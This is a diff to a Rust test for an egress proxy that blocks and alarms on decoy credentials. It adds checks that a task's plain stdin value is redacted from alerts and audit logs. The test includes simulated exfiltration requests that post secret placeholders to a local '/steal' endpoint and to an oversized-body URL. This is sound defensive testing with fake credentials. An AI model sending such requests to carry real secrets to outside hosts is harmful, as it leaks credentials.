@@ -17,6 +17,8 @@ use serde_json::json;
 
 const DECOY: &str = "sk-proj-DECOYvalue0123456789abcdefghijklmnopqrstuvwx";
 const REAL: &str = "ghp_REALvalue0123456789abcdefghijkl";
+/// A stdin-mode value of the task's: never in what the owner is told.
+const PLAIN: &str = "plain-PLANTED-stdin-value-0123456789";
 
 #[derive(Default)]
 struct Recorded(Mutex<Vec<DecoyTrip>>);
@@ -39,14 +41,16 @@ async fn a_decoy_sent_anywhere_is_refused_like_an_unbound_secret_and_rings_the_a
     let real = Binding::parse("127.0.0.1").unwrap();
     let t1 = vec![
         Credential::new("GH_TOKEN", SecretString::from(REAL), vec![real]),
+        Credential::new("PLAIN", SecretString::from(PLAIN), vec![]),
         Credential::decoy("OPENAI_API_KEY", SecretString::from(DECOY)),
     ];
     started.egress.credentials().grant("t-1", t1).unwrap();
     let client = reqwest::Client::builder().proxy(started.proxy()).timeout(WAIT).build().unwrap();
 
-    // In a header, to any host: the same refusal a real secret not bound there gets.
+    // In a header, to any host: the same refusal a real secret not bound there gets. The task's
+    // stdin-mode value beside it must not reach the owner's alert.
     let response = client
-        .post(format!("http://{other}/steal"))
+        .post(format!("http://{other}/steal?also={PLAIN}"))
         .header("authorization", "Bearer {{secret:OPENAI_API_KEY}}")
         .send()
         .await
@@ -60,6 +64,14 @@ async fn a_decoy_sent_anywhere_is_refused_like_an_unbound_secret_and_rings_the_a
     let response = client
         .post(format!("http://{bound}/echo?k={{{{secret:GH_TOKEN}}}}"))
         .body("keys=%7B%7Bsecret%3AOPENAI_API_KEY%7D%7D")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 403);
+    // In the URL of a body too large to be read: caught before the size refuses it.
+    let response = client
+        .post(format!("http://{other}/big?k={{{{secret:OPENAI_API_KEY}}}}"))
+        .body(vec![b'x'; nexbot_egress::MAX_SECRET_BODY_BYTES + 1])
         .send()
         .await
         .unwrap();
@@ -92,16 +104,18 @@ async fn a_decoy_sent_anywhere_is_refused_like_an_unbound_secret_and_rings_the_a
     assert_eq!(code, 403, "a tunnel would hide what the task sends");
 
     let trips = alarm.0.lock().unwrap().clone();
-    assert_eq!(trips.len(), 2, "{trips:?}");
+    assert_eq!(trips.len(), 3, "{trips:?}");
     assert_eq!(trips[0].task_id.as_deref(), Some("t-1"));
     assert_eq!(trips[0].container.as_deref(), Some("c-test"));
     assert_eq!(trips[0].secret, "OPENAI_API_KEY");
-    assert_eq!(trips[0].request, format!("POST http://127.0.0.2:{}/steal", other.port()));
+    let told = format!("POST http://127.0.0.2:{}/steal?also=[REDACTED:PLAIN]", other.port());
+    assert_eq!(trips[0].request, told);
     assert!(trips[1].request.starts_with("POST http://127.0.0.1:"), "{:?}", trips[1]);
+    assert!(trips[2].request.contains("/big?k="), "{:?}", trips[2]);
 
-    let lines = started.audit_lines(5).await;
+    let lines = started.audit_lines(6).await;
     let decoys: Vec<_> = lines.iter().filter(|l| l["decoy"] == true).collect();
-    assert_eq!(decoys.len(), 2, "{lines:?}");
+    assert_eq!(decoys.len(), 3, "{lines:?}");
     for line in &decoys {
         assert_eq!(line["verdict"], "denied");
         assert_eq!(line["secrets"], json!(["OPENAI_API_KEY"]));
@@ -109,4 +123,5 @@ async fn a_decoy_sent_anywhere_is_refused_like_an_unbound_secret_and_rings_the_a
     }
     let audit = std::fs::read_to_string(started.egress.audit_path()).unwrap();
     assert!(!audit.contains(DECOY) && !audit.contains("DECOYvalue"), "{audit}");
+    assert!(!audit.contains(PLAIN), "{audit}");
 }
